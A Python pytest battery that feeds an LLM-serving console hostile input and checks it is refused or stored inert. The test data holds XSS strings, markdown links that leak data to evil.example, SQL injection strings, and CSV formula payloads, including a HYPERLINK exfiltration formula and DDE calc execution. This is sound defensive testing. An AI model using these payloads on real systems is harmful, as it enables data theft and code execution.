"""The bad-input battery through the services: every hostile or malformed value a person (or a caller) can hand
the console gets a clear :class:`ConsoleError` or is stored and shown inert; nothing is lost; the console keeps
working; the audit chain verifies at the end.

One world per module: one SQLite file, one real vLLM engine on the tiny model (behind our own seam, which records
what the model was asked and can make its answer end with a text of our choosing), the real Presidio scanner, and
the users, conversation, review items, model version and promotion request the cases act on.

Contracts checked by the helpers below:

- refused: a ``ConsoleError`` subclass whose message names the problem (a fragment is asserted), stays short (it
  does not echo a megabyte back) and holds no NUL; and no row was added to any table but the audit log;
- stored inert: the stored text has no NUL and no lone surrogate, and what the page renders from it
  (``console.textsafe.escape_markdown`` through a CommonMark renderer) makes no element, no link and no image.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sys
import unicodedata
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from sqlalchemy import func, select

from console.services import alerts as alerts_svc
from console.services import audit as audit_svc
from console.services import audit_search as search_svc
from console.services import auth, moderation, policy_changes, registry, review, timelines
from console.services import chat as chat_svc
from console.services import evaluation as evaluation_svc
from console.services import exports as exports_svc
from console.services import feedback as feedback_svc
from console.services import latency as latency_svc
from console.services import policy as policy_svc
from console.services import promotion as promotion_svc
from console.services import serving as serving_svc
from console.services import users as users_svc
from console.services.access import Principal
from console.services.context import AppContext
from console.services.errors import ConsoleError, InvalidInput, LoginFailed, NotFound
from console.settings import Settings
from console.textsafe import escape_markdown, escape_stream
from db import audit as audit_q
from db import chat as chat_q
from db import safety as safety_q
from db import state as state_q
from db import users as users_q
from db.chat import TurnRecord
from db.config import DbConfig
from db.database import Database
from db.review import items as items_q
from db.tables import (
    AliasMove,
    AppState,
    AuditEvent,
    Conversation,
    Evaluation,
    Exchange,
    Feedback,
    Finding,
    ModelAlias,
    ModelVersion,
    PolicyVersion,
    PromotionRequest,
    RawText,
    ReviewDecision,
    ReviewItem,
    ReviewSample,
    User,
    UserRole,
)
from engine.evals.suite import MAX_BYTES, MAX_ROWS, TOPICS
from engine.safety.policy import Policy
from engine.safety.runner import ScannerRunner
from tests.conftest import STRONG_PASSWORD, FakeClock, console_env
from tests.review_fixtures import flag

MB = 1_000_000
HUGE = "x" * MB  # a 1 MB note, reason or prompt
HUGE_NAME = "a" * (10 * MB)  # a 10 MB username or email
UNKNOWN_ID = 999_999
# A clear message says what is wrong; it does not echo a megabyte of input back.
MAX_MESSAGE_CHARS = 10_000
SAMPLING: dict[str, Any] = {"temperature": 0.0, "top_p": 0.95, "max_tokens": 3}
POLICY = """
version = "battery"
[rules.prompt.default]
action = "allow"
[rules.prompt.EMAIL_ADDRESS]
threshold = 0.5
action = "redact"
[rules.output.default]
action = "allow"
"""
# Every table a refused input must leave alone (the audit log may record the refusal).
TABLES = (User, UserRole, Conversation, Exchange, Finding, RawText, ReviewItem, ReviewDecision, ReviewSample,
          ModelVersion, ModelAlias, AliasMove, Evaluation, PromotionRequest, PolicyVersion, AppState, Feedback)

_MARKDOWN = MarkdownIt("commonmark", {"html": True})
_ACTIVE_HTML = re.compile(r"<(a|img|script|iframe|svg|style|object|embed|form|input|link|meta|h[1-6]|table|"
                          r"video|audio|source|base)\b", re.IGNORECASE)
_LONE_SURROGATE = re.compile("[\ud800-\udfff]")
_PII_LABEL = re.compile(r"<[A-Z_]+>")


# --- the seam around the real engine ------------------------------------------------------------------------


class _SuffixStream:
    """A real generation stream whose answer ends with one more delta of our choosing."""

    def __init__(self, stream: Any, suffix: str) -> None:
        self.stream, self.suffix = stream, suffix

    @property
    def result(self) -> Any:
        return self.stream.result

    def __iter__(self) -> Iterator[str]:
        yield from self.stream
        yield self.suffix

    def cancel(self) -> None:
        self.stream.cancel()


class AnsweringHost:
    """Our own seam around the real engine host: records what the model was asked, and can make the answer end
    with hostile text (the untrained tiny model cannot be asked to write HTML)."""

    def __init__(self, host: Any) -> None:
        self.host = host
        self.calls: list[list[Any]] = []
        self.answer_suffix: str | None = None

    @property
    def serving(self) -> Any:
        return self.host.serving

    def status(self) -> Any:
        return self.host.status()

    def stream_chat(self, messages: Any, sampling: Any, *, request_id: str | None = None) -> Any:
        self.calls.append(list(messages))
        stream = self.host.stream_chat(messages, sampling, request_id=request_id)
        return stream if self.answer_suffix is None else _SuffixStream(stream, self.answer_suffix)


# --- the world ----------------------------------------------------------------------------------------------


@dataclass
class World:
    db: Database
    ctx: AppContext  # no engine, no scanners: notes are redacted by the pattern recognizers
    chat: AppContext  # the real engine (through AnsweringHost) and the real Presidio scanner
    host: AnsweringHost
    stack: moderation.SafetyStack
    people: dict[str, Principal]
    conversation_id: int = 0
    exchange_id: int = 0
    open_item: int = 0
    escalated_item: int = 0
    decided_item: int = 0
    request_id: int = 0
    seeded: dict[str, Any] = field(default_factory=dict)


def _snapshot(w: World) -> dict[str, Any]:
    """The seeded rows as they must stay: users and roles, the exchange's texts, the items, aliases, request."""
    with w.db.session(readonly=True) as s:
        users = {u.username: (sorted(u.roles), bool(u.disabled), u.email, u.display_name)
                 for u in users_q.list_users(s) if u.username in w.people}
        ex = chat_q.get_exchange(s, w.exchange_id)
        items = {i: items_q.get_review_item(s, i).status
                 for i in (w.open_item, w.escalated_item, w.decided_item)}
        aliases = sorted((a.alias, a.version_id) for a in s.scalars(select(ModelAlias))
                         if a.alias in ("production", "staging"))
        request = s.get(PromotionRequest, w.request_id)
        return {"users": users, "exchange": (ex.prompt, ex.response, ex.status), "items": items,
                "aliases": aliases, "request": (request.status, request.reason, request.alias)}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, migrated_db_file: Path, engine_host: Any,
          tiny_model_dir: Path) -> Iterator[World]:
    from engine.safety.pii import PresidioScanner

    data = tmp_path_factory.mktemp("bad-input")
    settings = Settings.from_env(console_env(data))
    shutil.copy(migrated_db_file, data / "console.db")
    db = Database(DbConfig(url=settings.database_url))
    clock = FakeClock()
    ctx = AppContext(settings, db, clock=clock)
    host = AnsweringHost(engine_host)
    policy = Policy.from_toml(POLICY)
    with db.session() as s:
        version = safety_q.store_policy_version(s, policy.source_text, None, actor="test").version
    stack = moderation.SafetyStack(ScannerRunner([PresidioScanner()]), policy, version)
    chat = AppContext(settings, db, host_factory=lambda: host, safety_factory=lambda: stack, clock=clock)

    roles = {"ada": ("admin",), "otto": ("admin",), "olga": ("operator",), "oscar": ("operator",),
             "rita": ("reviewer",), "rex": ("reviewer",), "ana": ("analyst",)}
    people = {}
    shell = Principal.shell(ctx)
    for name, rs in roles.items():
        view = users_svc.add_user(ctx, shell, name, STRONG_PASSWORD, rs)
        people[name] = Principal(view.id, view.username, frozenset(view.roles))
    w = World(db, ctx, chat, host, stack, people)

    turn = chat_svc.start_turn(chat, people["olga"], None, "Where is my order?", **SAMPLING)
    "".join(turn.deltas())
    w.conversation_id, w.exchange_id = turn.conversation_id, turn.outcome.exchange_id
    w.open_item = flag(ctx, people["olga"])
    w.escalated_item = flag(ctx, people["olga"])
    review.decide(ctx, people["rex"], w.escalated_item, "escalate", note="not sure", share=0.0)
    w.decided_item = flag(ctx, people["olga"])
    review.decide(ctx, people["rita"], w.decided_item, "false_positive", share=0.0)
    registry.register(ctx, Principal.shell(ctx), name="tiny-a", source=str(tiny_model_dir), revision=None, dtype=None,
                            max_model_len=None, engine_args=None, description="the battery's version")
    serving_svc.serve(ctx, Principal.shell(ctx), "tiny-a", "battery set-up")
    w.request_id = promotion_svc.request_promotion(ctx, people["ada"], "tiny-a", "staging", "battery").id
    w.seeded = _snapshot(w)
    yield w
    # Whatever ran (also a subset of the module), the chain must still verify.
    assert audit_q.verify_chain(db).ok
    db.dispose()


# --- contracts ------------------------------------------------------------------------------------------------


def _counts(w: World) -> dict[str, int]:
    with w.db.session(readonly=True) as s:
        return {t.__tablename__: s.scalar(select(func.count()).select_from(t)) for t in TABLES}


@contextmanager
def nothing_stored(w: World) -> Iterator[None]:
    """Nothing but audit events may be written inside the block."""
    before = _counts(w)
    yield
    assert _counts(w) == before


def _clear(err: BaseException, fragment: str) -> None:
    """A user-facing error whose message names the problem, short and printable."""
    assert isinstance(err, ConsoleError), f"{type(err).__name__} is not a ConsoleError: {err!r}"[:500]
    message = str(err)
    assert fragment in message, message[:500]
    assert len(message) <= MAX_MESSAGE_CHARS, f"the message has {len(message):,} characters"
    assert "\x00" not in message


@contextmanager
def refused(w: World, fragment: str, kind: type[ConsoleError] = ConsoleError) -> Iterator[None]:
    """The block raises ``kind`` with a clear message naming ``fragment``, and stores nothing."""
    with nothing_stored(w), pytest.raises(kind) as raised:
        yield
    _clear(raised.value, fragment)


def _storable(text: str | None) -> None:
    assert text is not None
    assert "\x00" not in text and not _LONE_SURROGATE.search(text)
    text.encode("utf-8")


def _assert_inert(text: str) -> None:
    """What a page renders from ``text`` makes no element, no link and no image, and holds no live URL."""
    shown = escape_markdown(text)
    html = _MARKDOWN.render(shown)
    assert not _ACTIVE_HTML.search(html), html[:500]
    assert "://" not in shown and "www." not in shown.lower()


def _exchange(w: World, exchange_id: int) -> Exchange:
    with w.db.session(readonly=True) as s:
        ex = chat_q.get_exchange(s, exchange_id)
        assert ex is not None
        s.expunge(ex)
        return ex


def _turn(w: World, prompt: str, *, actor: str = "olga", answer: str | None = None, system_prompt: str | None = None,
          conversation_id: int | None = None, **sampling: Any) -> tuple[chat_svc.ChatTurn, list[str]]:
    w.host.answer_suffix = answer
    try:
        turn = chat_svc.start_turn(w.chat, w.people[actor], conversation_id, prompt, **{**SAMPLING, **sampling},
                                   system_prompt=system_prompt)
        return turn, list(turn.deltas())
    finally:
        w.host.answer_suffix = None


def _plain_exchange(w: World, prompt: str = "Where is my parcel?") -> int:
    """An answered exchange of olga's, stored as the chat flow stores one (no engine needed)."""
    with w.db.session() as s:
        conv = chat_q.create_conversation(s, user_id=w.people["olga"].user_id, actor="olga", title="plain")
        return chat_q.store_turn(s, TurnRecord(conversation_id=conv.id, user_id=w.people["olga"].user_id,
                                               actor="olga", model_version="tiny-a", prompt=prompt,
                                               response="It is on its way.")).id


# --- bugs the battery finds stay an xfail(strict=True) until their fix lands ------------------------------------

BUGS: dict[str, str] = {}  # every bug the battery found is fixed; a new one goes here as "group-case": "why"


def cases(group: str, rows: list[tuple[Any, ...]]) -> list[Any]:
    """``rows`` of (id, *values) as pytest params; a row listed in :data:`BUGS` as ``group-id`` is a strict xfail."""
    out = []
    for case_id, *values in rows:
        bug = BUGS.get(f"{group}-{case_id}")
        marks = [pytest.mark.xfail(strict=True, reason=bug)] if bug else []
        out.append(pytest.param(*values, id=case_id, marks=marks))
    return out


# --- chat: prompts that are refused -------------------------------------------------------------------------

REFUSED_PROMPTS = [
    ("empty", "", "The message is required"),
    ("spaces", "     ", "The message is required"),
    ("tabs-and-newlines", "\t\n\r\n\t", "The message is required"),
    ("unicode-spaces", "\u00a0\u2003\u3000\u2029", "The message is required"),
    ("only-nul", "\x00\x00\x00", "The message is required"),
    ("nul-and-spaces", " \x00 \n\x00 ", "The message is required"),
    ("one-over-the-limit", "y" * (chat_svc.MAX_PROMPT_CHARS + 1), "the limit is 20,000"),
    ("one-megabyte", HUGE, "the limit is 20,000"),
    ("one-megabyte-of-nul-padding", "x" + "\x00" * MB + "y" * (chat_svc.MAX_PROMPT_CHARS + 1), "the limit is 20,000"),
    ("one-megabyte-of-whitespace", " " * MB, "The message is required"),
]


@pytest.mark.parametrize("prompt,fragment", [c[1:] for c in REFUSED_PROMPTS], ids=[c[0] for c in REFUSED_PROMPTS])
def test_a_bad_prompt_is_refused_with_a_clear_message_and_never_reaches_the_model(world, prompt, fragment):
    calls = len(world.host.calls)
    with refused(world, fragment, InvalidInput):
        _turn(world, prompt)
    assert len(world.host.calls) == calls
    assert chat_svc.list_conversations(world.chat, world.people["olga"])  # the page still lists the history


def test_a_prompt_that_fits_the_form_but_not_the_model_is_refused_and_recorded_as_an_error(world):
    # 20,000 characters is what the chat box takes; the tiny model's context is 512 tokens.
    with pytest.raises(InvalidInput) as raised:
        _turn(world, "refund " * (chat_svc.MAX_PROMPT_CHARS // 7))
    _clear(raised.value, "too long")
    with world.db.session(readonly=True) as s:
        newest = s.scalars(select(Exchange).order_by(Exchange.id.desc())).first()
    assert newest.status == "error" and "token" in (newest.error or "")


# --- chat: prompts stored as typed (cleaned) and shown inert --------------------------------------------------

STORED_PROMPTS = [
    ("nul-inside", "where\x00 is my\x00 order", "where is my order"),
    ("nul-at-the-end", "where is my order\x00", "where is my order"),
    ("c0-controls", "order \x01\x02\x03\x07\x08\x0b\x0c\x1b[31m status", None),
    ("del-and-c1-controls", "order \x7f\x80\x85\x9f status", None),
    ("lone-high-surrogate", "order \ud800 status", "order \ufffd status"),
    ("lone-low-surrogate", "order \udfff status", "order \ufffd status"),
    ("reversed-surrogate-pair", "order \udc00\ud800 status", "order \ufffd\ufffd status"),
    ("right-to-left-override", "refund for file \u202egnp.exe", None),
    ("bidi-isolates-and-embeddings", "\u2067order\u2069 \u202bstatus\u202c \u2066x\u2069", None),
    ("combining-marks-flood", "o" + "\u0301" * 60 + "rder", None),
    ("emoji-and-astral", "where is 📦 order? \U0001f9d1\u200d\U0001f4bb \U0010ffff", None),
    ("crlf-injection", "order\r\nX-Injected: 1\r\n\r\nstatus", None),
]


@pytest.mark.parametrize("prompt,expected", [c[1:] for c in STORED_PROMPTS], ids=[c[0] for c in STORED_PROMPTS])
def test_a_prompt_with_odd_characters_is_stored_cleaned_and_nothing_else_changes(world, prompt, expected):
    turn, deltas = _turn(world, prompt)
    assert turn.outcome.saved and turn.outcome.status == "ok"
    ex = _exchange(world, turn.outcome.exchange_id)
    _storable(ex.prompt)
    _storable(ex.response)
    assert ex.prompt == (expected if expected is not None else prompt)
    assert world.host.calls[-1][-1].content == ex.prompt  # the model was asked exactly what is stored
    _assert_inert(ex.prompt)
    history = chat_svc.conversation_history(world.chat, world.people["olga"], turn.conversation_id)
    assert [h.prompt for h in history] == [ex.prompt]


def test_a_prompt_of_only_invisible_characters_is_refused_like_an_empty_one(world):
    with refused(world, "The message is required", InvalidInput):
        _turn(world, "\u200b\u200d\u2060\ufeff")


# --- chat: every kind of Unicode format (Cf) character hides nothing from the scanners --------------------------


def _cf_representatives() -> list[str]:
    """The first and last character of every run of Cf code points, plus the ones the hardening issue names."""
    runs: list[list[int]] = []
    for cp in range(sys.maxunicode + 1):
        if unicodedata.category(chr(cp)) == "Cf":
            if runs and runs[-1][1] == cp - 1:
                runs[-1][1] = cp
            else:
                runs.append([cp, cp])
    named = [0x2062, 0x2063, 0x061C, 0x202A, 0x202E, 0x2066, 0x2069, 0xE0041]
    chosen = sorted({cp for run in runs for cp in run} | set(named))
    return [chr(cp) for cp in chosen]


CF_CHARS = _cf_representatives()


@pytest.mark.parametrize("cf", CF_CHARS, ids=[f"U+{ord(c):04X}-{unicodedata.name(c, 'unnamed').lower().replace(' ', '-')}"
                                             for c in CF_CHARS])
def test_a_format_character_inside_an_email_does_not_hide_it_from_redaction(world, cf):
    prompt = f"Please write to bob{cf}@example.com about my refund"
    turn, _ = _turn(world, prompt)
    ex = _exchange(world, turn.outcome.exchange_id)
    sent = world.host.calls[-1][-1].content
    assert "example.com" not in sent and "<EMAIL_ADDRESS>" in sent  # the policy redacts it for the model
    assert "example.com" not in ex.prompt and "<EMAIL_ADDRESS>" in ex.prompt  # and it is never stored
    assert ex.prompt.endswith("about my refund")
    _storable(ex.prompt)


# --- chat: HTML, scripts, images and links in prompts and in the model's answer -------------------------------

HOSTILE = [
    ("script-tag", "<script>alert(document.cookie)</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("iframe", '<iframe src="https://evil.example/frame"></iframe>'),
    ("svg-onload", "<svg onload=alert(1)><circle r=9 /></svg>"),
    ("style-tag", "<style>body{display:none}</style>"),
    ("markdown-image", "![status](https://evil.example/p.png?q=secret)"),
    ("markdown-link", "[your invoice](https://evil.example/?q=secret)"),
    ("javascript-link", "[click me](javascript:alert(1))"),
    ("data-uri-image", "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)"),
    ("autolink-literal", "see https://evil.example/?q=secret for details"),
    ("www-literal", "see www.evil.example/x for details"),
    ("angle-autolink", "<https://evil.example/a>"),
    ("reference-link", "[invoice][1]\n\n[1]: https://evil.example/r"),
    ("heading-and-table", "# HUGE\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
    ("html-entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;"),
    ("nul-split-tag", "<scr\x00ipt>alert(1)</scr\x00ipt>"),
]


@pytest.mark.parametrize("hostile", [c[1] for c in HOSTILE], ids=[c[0] for c in HOSTILE])
def test_html_and_links_in_the_prompt_and_in_the_answer_are_stored_as_text_and_shown_inert(world, hostile):
    turn, deltas = _turn(world, f"Repeat this: {hostile}", answer=hostile)
    ex = _exchange(world, turn.outcome.exchange_id)
    clean = hostile.replace("\x00", "")
    # Stored as text: not stripped or rewritten, only personal data cut (spaCy may take a URL for a name).
    assert ex.prompt == moderation.check_prompt(world.chat, f"Repeat this: {clean}").text_for_storage
    assert clean in ex.response or _PII_LABEL.search(ex.response)
    for text in (ex.prompt, ex.response, turn.outcome.text):
        _storable(text)
        _assert_inert(text)
    streamed = "".join(escape_stream(deltas))  # what the page writes while the answer streams
    assert not _ACTIVE_HTML.search(_MARKDOWN.render(streamed))
    assert "://" not in streamed


def test_a_hostile_conversation_title_is_shown_inert(world):
    turn, _ = _turn(world, "<img src=x onerror=alert(1)> ![t](https://evil.example/t.png)")
    titles = {c.id: c.title for c in chat_svc.list_conversations(world.chat, world.people["olga"])}
    _assert_inert(titles[turn.conversation_id])


# --- chat: the system prompt ----------------------------------------------------------------------------------


def test_a_system_prompt_over_its_limit_is_refused(world):
    with refused(world, "4,000", InvalidInput):
        _turn(world, "Hello", system_prompt="s" * (chat_svc.MAX_SYSTEM_PROMPT_CHARS + 1))


def test_a_one_megabyte_system_prompt_is_refused(world):
    with refused(world, "4,000", InvalidInput):
        _turn(world, "Hello", system_prompt=HUGE)


def test_a_hostile_system_prompt_is_stored_without_nul_and_without_the_email_and_shown_inert(world):
    turn, _ = _turn(world, "Hello", system_prompt="<script>x</script>\x00 mail bob\u2063@example.com \ud800")
    with world.db.session(readonly=True) as s:
        stored = chat_q.get_conversation(s, turn.conversation_id).system_prompt
    _storable(stored)
    _assert_inert(stored)
    assert "example.com" not in stored and "<script>" in stored


# --- chat: sampling values ------------------------------------------------------------------------------------

BAD_SAMPLING = [
    ("temperature-nan", {"temperature": float("nan")}, "Temperature"),
    ("temperature-inf", {"temperature": float("inf")}, "Temperature"),
    ("temperature-minus-inf", {"temperature": float("-inf")}, "Temperature"),
    ("temperature-negative", {"temperature": -0.5}, "Temperature"),
    ("temperature-too-high", {"temperature": 2.5}, "Temperature"),
    ("temperature-string", {"temperature": "hot"}, "Temperature"),
    ("temperature-none", {"temperature": None}, "Temperature"),
    ("temperature-bool", {"temperature": True}, "Temperature"),
    ("top-p-nan", {"top_p": float("nan")}, "Top-p"),
    ("top-p-zero", {"top_p": 0.0}, "Top-p"),
    ("top-p-negative", {"top_p": -0.1}, "Top-p"),
    ("top-p-over-one", {"top_p": 1.5}, "Top-p"),
    ("top-p-string", {"top_p": "0.9"}, "Top-p"),
    ("max-tokens-zero", {"max_tokens": 0}, "Max tokens"),
    ("max-tokens-negative", {"max_tokens": -5}, "Max tokens"),
    ("max-tokens-fraction", {"max_tokens": 2.5}, "Max tokens"),
    ("max-tokens-nan", {"max_tokens": float("nan")}, "Max tokens"),
    ("max-tokens-inf", {"max_tokens": float("inf")}, "Max tokens"),
    ("max-tokens-string", {"max_tokens": "ten"}, "Max tokens"),
]


@pytest.mark.parametrize("change,fragment", [c[1:] for c in BAD_SAMPLING], ids=[c[0] for c in BAD_SAMPLING])
def test_bad_sampling_values_are_refused_before_anything_is_stored_or_sent(world, change, fragment):
    calls = len(world.host.calls)
    with refused(world, fragment, InvalidInput):
        _turn(world, "Hello", **change)
    assert len(world.host.calls) == calls


def test_a_huge_max_tokens_is_held_to_the_models_context(world):
    turn, _ = _turn(world, "Hello", max_tokens=10**9, temperature=0.0)
    ex = _exchange(world, turn.outcome.exchange_id)
    assert ex.status == "ok" and 0 < (ex.output_tokens or 0) <= 512


def test_chat_keeps_working_after_the_bad_prompts(world):
    turn, deltas = _turn(world, "Where is my order?")
    assert turn.outcome.saved and turn.outcome.status == "ok" and deltas


# --- SQL metacharacters in every filter and search box ------------------------------------------------------

SQL = [
    ("quote-or", "' OR 1=1 --"),
    ("drop-table", '"; DROP TABLE users; --'),
    ("percent", "%"),
    ("underscore", "_"),
    ("backslash", "\\"),
    ("like-escapes", "a\\%_b"),
]


def _total_events(w: World) -> int:
    with w.db.session(readonly=True) as s:
        return s.scalar(select(func.count()).select_from(AuditEvent))


def _box_audit_actor(w: World, s: str) -> None:
    rows = search_svc.search(w.ctx, w.people["ana"], search_svc.AuditFilter(actor=s)).rows
    assert all(r["actor"] == s.strip() for r in rows) and len(rows) < _total_events(w)


def _box_audit_action(w: World, s: str) -> None:
    rows = search_svc.search(w.ctx, w.people["ana"], search_svc.AuditFilter(action_prefix=s)).rows
    assert all(r["action"].startswith(s) for r in rows) and len(rows) < _total_events(w)


def _export_events_csv(ctx: AppContext, who: Principal, flt: search_svc.AuditFilter) -> bytes:
    """The audit events matching ``flt`` as the Audit page exports them (CSV)."""
    spec = search_svc.export_spec(flt, "events", "csv")
    return exports_svc.run_export(ctx, who, spec, exports_svc.default_export_path(ctx, spec)).path.read_bytes()


def _box_audit_export(w: World, s: str) -> None:
    data = _export_events_csv(w.ctx, w.people["ana"], search_svc.AuditFilter(actor=s, action_prefix=s))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0][:5] == ["seq", "ts", "actor", "actor_id", "action"] and len(rows) - 1 < _total_events(w)


def _queue(**flt: Any) -> Callable[[World, str], None]:
    def box(w: World, s: str) -> None:
        values = {k: (tuple([s]) if k == "statuses" else s) for k in flt}
        page = review.list_queue(w.ctx, w.people["rita"], review.QueueFilter(**values))
        assert page.rows == () and page.summary.counts["open"] >= 1
    return box


def _box_claim_next(w: World, s: str) -> None:
    with nothing_stored(w):
        assert review.claim_next(w.ctx, w.people["rita"], review.QueueFilter(detector=s, label=s)) is None


def _box_assignee(w: World, s: str) -> None:
    assert review.user_id_of(w.ctx, w.people["rita"], s) is None


def _box_unlock_user(w: World, s: str) -> None:
    with refused(w, "No user named", NotFound):
        users_svc.find_user(w.ctx, w.people["ada"], s)


def _box_new_username(w: World, s: str) -> None:
    with refused(w, "A username has", InvalidInput):
        users_svc.add_user(w.ctx, w.people["ada"], s, STRONG_PASSWORD, ["operator"])


def _box_new_email(w: World, s: str) -> None:
    with refused(w, "email", InvalidInput):
        users_svc.add_user(w.ctx, w.people["ada"], "sql-mail", STRONG_PASSWORD, ["operator"], email=s)


def _box_register_name(w: World, s: str) -> None:
    with refused(w, "A version name has", InvalidInput):
        registry.register(w.ctx, w.people["ada"], name=s, source="org/model", revision="main", dtype=None,
                            max_model_len=None, engine_args=None, description=None)


def _box_register_source(w: World, s: str) -> None:
    with refused(w, "neither an existing local directory nor a hub id", InvalidInput):
        registry.register(w.ctx, w.people["ada"], name="sql-source", source=s, revision=None, dtype=None,
                            max_model_len=None, engine_args=None, description=None)


def _box_serve(w: World, s: str) -> None:
    with refused(w, "No model version named", NotFound):
        serving_svc.serve(w.ctx, w.people["ada"], s, "a reason")


def _box_alias_name(w: World, s: str) -> None:
    with refused(w, "An alias has", InvalidInput):
        registry.set_alias(w.ctx, w.people["ada"], "tiny-a", s, "a reason")


def _box_alias_version(w: World, s: str) -> None:
    with refused(w, "No model version named", NotFound):
        registry.set_alias(w.ctx, w.people["ada"], s, "staging", "a reason")


def _box_retire(w: World, s: str) -> None:
    with refused(w, "No model version named", NotFound):
        registry.retire(w.ctx, w.people["ada"], s, "a reason")


def _box_promotion_alias(w: World, s: str) -> None:
    with refused(w, "An alias has", InvalidInput):
        promotion_svc.request_promotion(w.ctx, w.people["ada"], "tiny-a", s, "a reason")


def _box_promotion_version(w: World, s: str) -> None:
    with refused(w, "No model version named", NotFound):
        promotion_svc.request_promotion(w.ctx, w.people["ada"], s, "candidate", "a reason")


def _box_version_history(w: World, s: str) -> None:
    with refused(w, "No model version named", NotFound):
        timelines.version_history(w.ctx, w.people["ada"], s)


def _box_request_status(w: World, s: str) -> None:
    with refused(w, "Unknown request status", InvalidInput):
        promotion_svc.list_requests(w.ctx, w.people["ada"], status=s)


def _box_evaluations(w: World, s: str) -> None:
    with refused(w, "No model version named", NotFound):
        evaluation_svc.list_evaluations(w.ctx, w.people["ada"], s)


def _box_evaluation_start(w: World, s: str) -> None:
    with refused(w, "No model version named", NotFound):  # refused before any child process starts
        evaluation_svc.start_evaluation(w.ctx, w.people["ada"], s)


def _box_suite_name(w: World, s: str) -> None:
    with refused(w, "A suite name has", InvalidInput):
        evaluation_svc.upload_suite(w.ctx, w.people["ada"], "suite.jsonl", _suite_jsonl(_good_row()), name=s)


def _box_dashboard_window(w: World, s: str) -> None:
    with refused(w, "Unknown time window", InvalidInput):
        latency_svc.latency(w.ctx, w.people["olga"], window=s)


def _box_dashboard_version(w: World, s: str) -> None:
    report = latency_svc.latency(w.ctx, w.people["olga"], model_version=s)
    assert report.exchanges.empty


def _box_sign_in(w: World, s: str) -> None:
    with refused(w, auth.GENERIC_FAILURE, LoginFailed):
        auth.login(w.ctx, s, STRONG_PASSWORD)


def _box_sign_in_as_admin_with_injection(w: World, s: str) -> None:
    with refused(w, auth.GENERIC_FAILURE, LoginFailed):
        auth.login(w.ctx, f"ada{s}", STRONG_PASSWORD)


def _box_decision_note(w: World, s: str) -> None:
    item = flag(w.ctx, w.people["olga"])
    decision_id = review.decide(w.ctx, w.people["rita"], item, "false_positive", note=f"note {s}", share=0.0).decision_id
    with w.db.session(readonly=True) as session:
        assert session.get(ReviewDecision, decision_id).note == f"note {s}"  # stored as text, not as SQL


def _box_reveal_reason(w: World, s: str) -> None:
    review.reveal_raw(w.ctx, w.people["rita"], w.open_item, "prompt", f"reason {s}")
    with w.db.session(readonly=True) as session:
        event = list(audit_q.iter_events(session, action="review.reveal_reason"))[-1]
    assert event.details["reason"] == f"reason {s}"


BOXES: list[tuple[str, Callable[[World, str], None]]] = [
    ("audit-actor", _box_audit_actor),
    ("audit-action", _box_audit_action),
    ("audit-export", _box_audit_export),
    ("queue-detector", _queue(detector=1)),
    ("queue-label", _queue(label=1)),
    ("queue-model", _queue(model_version=1)),
    ("queue-reason", _queue(reason=1)),
    ("queue-status", _queue(statuses=1)),
    ("claim-next", _box_claim_next),
    ("assignee", _box_assignee),
    ("unlock-user", _box_unlock_user),
    ("new-username", _box_new_username),
    ("new-email", _box_new_email),
    ("register-name", _box_register_name),
    ("register-source", _box_register_source),
    ("serve", _box_serve),
    ("alias-name", _box_alias_name),
    ("alias-version", _box_alias_version),
    ("retire", _box_retire),
    ("promotion-alias", _box_promotion_alias),
    ("promotion-version", _box_promotion_version),
    ("version-history", _box_version_history),
    ("request-status", _box_request_status),
    ("evaluations", _box_evaluations),
    ("evaluation-start", _box_evaluation_start),
    ("suite-name", _box_suite_name),
    ("dashboard-window", _box_dashboard_window),
    ("dashboard-version", _box_dashboard_version),
    ("sign-in", _box_sign_in),
    ("sign-in-admin-suffix", _box_sign_in_as_admin_with_injection),
    ("decision-note", _box_decision_note),
    ("reveal-reason", _box_reveal_reason),
]


@pytest.mark.parametrize("box,value", [(b, v) for _, b in BOXES for _, v in SQL],
                         ids=[f"{bn}-{vn}" for bn, _ in BOXES for vn, _ in SQL])
def test_sql_metacharacters_are_plain_text_in_every_filter_and_search_box(world, box, value):
    box(world, value)


def test_the_tables_survive_the_sql_boxes_and_searches_still_find_real_rows(world):
    with world.db.session(readonly=True) as s:
        assert {u.username for u in users_q.list_users(s)} >= set(world.people)
    rows = search_svc.search(world.ctx, world.people["ana"], search_svc.AuditFilter(actor="ada")).rows
    assert rows and all(r["actor"] == "ada" for r in rows)
    page = review.list_queue(world.ctx, world.people["rita"], review.QueueFilter(detector="presidio"))
    assert world.open_item in [r.item_id for r in page.rows]
    assert review.user_id_of(world.ctx, world.people["rita"], "rex") == world.people["rex"].user_id


# --- CSV formula prefixes in the audit export ---------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    ("equals", "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"click\")"),
    ("plus", "+cmd|' /C calc'!A0"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "\t=1+1"),
    ("carriage-return", "\r=1+1"),
    ("equals-multiline", "=1+1\n=2+2"),
    ("dde", "=DDE(\"cmd\";\"/C calc\";\"!A0\")"),
]


@pytest.mark.parametrize("name,payload", FORMULAS, ids=[c[0] for c in FORMULAS])
def test_formula_prefixes_in_any_exported_audit_cell_are_neutralised(world, name, payload):
    action = f"battery.csv.{name}"
    with world.db.session() as s:  # whatever reached the log: a name, an id, a reason
        audit_q.append_event(s, actor=payload, action=action, object_type=payload, object_id=payload,
                             details={"reason": payload})
    data = _export_events_csv(world.ctx, world.people["ana"], search_svc.AuditFilter(action_prefix=action))
    header, *rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(rows) == 1
    row = dict(zip(header, rows[0], strict=True))
    assert row["actor"] == "'" + payload and row["object_id"] == "'" + payload  # neutralised, nothing lost
    assert not any(cell.startswith(FORMULA_START) for cell in rows[0])


